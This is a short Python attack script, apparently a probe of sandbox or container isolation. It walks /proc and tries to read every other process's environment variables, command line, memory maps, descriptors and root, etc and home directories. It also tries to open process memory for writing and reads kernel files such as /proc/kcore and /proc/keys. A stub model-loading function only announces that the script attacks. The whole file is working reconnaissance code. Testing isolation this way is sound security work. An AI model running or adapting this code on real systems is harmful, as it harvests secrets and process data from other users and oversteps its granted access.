# Tries: to read other processes through /proc: environments, roots, descriptors, memory, command lines.
import os


def look(path, kind):
    try:
        if kind == "list":
            return os.listdir(path)
        if kind == "link":
            return os.readlink(path)
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return None


def main():
    me = {os.getpid()}
    for name in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
        if int(name) in me:
            continue
        base = f"/proc/{name}"
        for part, kind in (("environ", "read"), ("cmdline", "read"), ("cwd", "link"), ("exe", "link"), ("fd", "list"),
                           ("maps", "read"), ("root/etc", "list"), ("root/root", "list"), ("root/home", "list")):
            found = look(f"{base}/{part}", kind)
            if found:
                print("SAW", base, part, found)
        try:
            with open(f"{base}/mem", "r+b"):
                print("OBTAINED", base, "memory for writing")
        except OSError:
            pass
    for path in ("/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/sysrq-trigger", "/proc/timer_list"):
        found = look(path, "read")
        if found:
            print("SAW", path, found[:40])
    if len([name for name in os.listdir("/proc") if name.isdigit()]) > 4:
        print("OBTAINED a view of foreign processes")


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
